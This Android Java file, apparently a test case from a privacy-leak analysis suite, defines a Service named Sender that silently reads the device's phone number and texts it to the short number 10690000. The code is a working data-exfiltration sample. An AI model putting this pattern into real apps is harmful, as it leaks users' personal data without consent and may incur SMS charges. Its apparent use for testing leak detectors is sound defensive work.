package cn.privlens.suite.started_disabled_service;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Sender extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int startId) {
        SmsManager.getDefault().sendTextMessage("10690000", null, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number(), null, null);
        stopSelf();
        return START_NOT_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
